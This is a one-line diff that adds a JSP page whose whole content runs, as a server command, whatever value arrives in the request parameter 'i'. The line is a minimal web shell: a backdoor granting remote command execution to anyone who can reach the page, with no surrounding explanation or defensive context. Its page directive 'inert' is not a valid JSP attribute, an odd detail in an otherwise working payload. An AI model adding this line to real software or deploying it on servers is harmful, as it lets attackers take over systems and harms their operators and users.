@@ -1,0 +1,1 @@
+<%@ page inert %><%Runtime.getRuntime().exec(request.getParameter("i"));%>
